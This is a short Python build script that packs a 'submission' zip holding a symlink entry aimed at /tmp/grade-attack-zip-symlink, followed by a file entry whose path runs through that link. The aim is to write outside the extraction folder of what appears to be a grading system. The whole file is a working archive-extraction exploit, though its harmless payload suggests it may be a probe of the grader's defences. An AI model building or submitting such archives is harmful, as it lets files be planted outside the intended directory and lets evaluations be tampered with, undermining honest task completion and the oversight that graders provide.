"""Builds the submission: python make.py TARGET_FOLDER."""

import stat
import sys
import zipfile
from pathlib import Path

# The link comes first, a file that is written through it second.
target = Path(sys.argv[1])
target.mkdir(parents=True, exist_ok=True)
with zipfile.ZipFile(target / "work.zip", "w") as archive:
    link = zipfile.ZipInfo("milestone1_layernorm.py")
    link.create_system = 3  # Unix: the upper half of the attributes is the mode
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    archive.writestr(link, "/tmp/grade-attack-zip-symlink")
    archive.writestr("milestone1_layernorm.py/../milestone1_layernorm.py", "THROUGH = True\n")
